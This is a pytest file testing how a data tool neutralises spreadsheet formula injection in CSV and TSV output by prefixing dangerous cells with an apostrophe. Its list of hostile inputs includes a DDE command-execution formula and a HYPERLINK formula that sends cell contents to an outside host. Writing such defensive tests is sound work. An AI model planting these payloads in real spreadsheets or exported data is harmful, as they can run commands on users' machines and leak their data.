"""Text that a spreadsheet would run, in CSV and TSV: harmless there, and itself again when headrace reads it."""

import asyncio
import csv
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from headrace.core.item import Outcome
from headrace.data.formula import guarded, is_result, unguarded
from headrace.data.sink import write_outcomes
from headrace.data.source import open_source

HOSTILE = (
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "+SUM(A1:A9)",
    "-A1",
    "-e5",
    "-1:1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "'=1+1",
    "''@x",
    "- a list",
    "@anna said",
)
HARMLESS = ("-5", "+3.25", "-1e5", "+47 123 456", "-5 %", "---", "- (1,000.50)", "'quoted'", "a=b", "", " =1", "x\n=1")
text = st.text(
    st.sampled_from("=+-@'\t\r\n\uff1da1 ,\";") | st.characters(exclude_categories=["Cs"], exclude_characters="\0"),
    max_size=8,
)


def read(path: Path) -> list[dict[str, Any]]:
    async def gather() -> list[dict[str, Any]]:
        return [item.data async for batch in open_source(path) for item in batch]

    return asyncio.run(gather())


@pytest.mark.parametrize("ending", ["csv", "tsv", "csv.gz"])
def test_what_would_be_a_formula_begins_with_an_apostrophe(tmp_path: Path, ending: str) -> None:
    """In items, answers, errors and names of columns; and reading the result back gives what was."""
    path = tmp_path / f"out.{ending}"
    names = ("=name", "text")
    outcomes = [
        Outcome(key=str(at), position=at, item={"=name": each, "text": "x"}, value=each)
        for at, each in enumerate(HOSTILE)
    ]
    write_outcomes(path, lambda: iter(outcomes), fields=names)
    if not ending.endswith(".gz"):
        with path.open(newline="", encoding="utf-8") as file:
            rows = list(csv.reader(file, delimiter="\t" if ending == "tsv" else ","))
        assert all(cell[:1] not in set("=+-@\t\r\n\uff1d") for row in rows for cell in row)
        assert rows[0][0] == "'=name"
        assert [row[0] for row in rows[1:]] == [f"'{each}" for each in HOSTILE]
    assert [(row["=name"], row["answer"]) for row in read(path)] == [(each, each) for each in HOSTILE]


def test_numbers_stay_as_they_are() -> None:
    """A minus makes no formula of a number, a telephone number or a rule, and an apostrophe alone is one."""
    assert [guarded(each) for each in HARMLESS] == list(HARMLESS)
    assert [unguarded(each) for each in HARMLESS] == list(HARMLESS)


@given(text)
@example("'")
@example("'=")
def test_nothing_is_lost(each: str) -> None:
    """Whatever the text, it comes back, and what is written is no formula."""
    written = guarded(each)
    assert unguarded(written) == each
    assert written[:1] not in set("=@\t\r\n\uff1d")
    assert guarded(f"'{each}") in (f"'{each}", f"''{each}")


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.tuples(text, text), min_size=1, max_size=4), ending=st.sampled_from(["csv", "tsv"]))
def test_any_text_comes_back(rows: list[tuple[str, str]], ending: str, tmp_path: Path) -> None:
    """A result that is read as input has the texts that were written."""
    path = tmp_path / f"any.{ending}"
    outcomes = [Outcome(key=str(at), position=at, item={"a": a}, value=b) for at, (a, b) in enumerate(rows)]
    write_outcomes(path, lambda: iter(outcomes))
    assert [(row["a"], row["answer"]) for row in read(path)] == rows


def test_other_peoples_apostrophes_stay(tmp_path: Path) -> None:
    """In a CSV file that is no result of headrace, an apostrophe is a part of the text."""
    path = tmp_path / "in.csv"
    path.write_text("text,error\n'@anna,x\n")
    assert read(path) == [{"text": "'@anna", "error": "x"}]
    assert not is_result(("error", "attempts"))
    assert not is_result(("attempts", "error", "seconds"))
    assert is_result(("a", "headrace_error", "attempts", "headrace_headrace_seconds"))
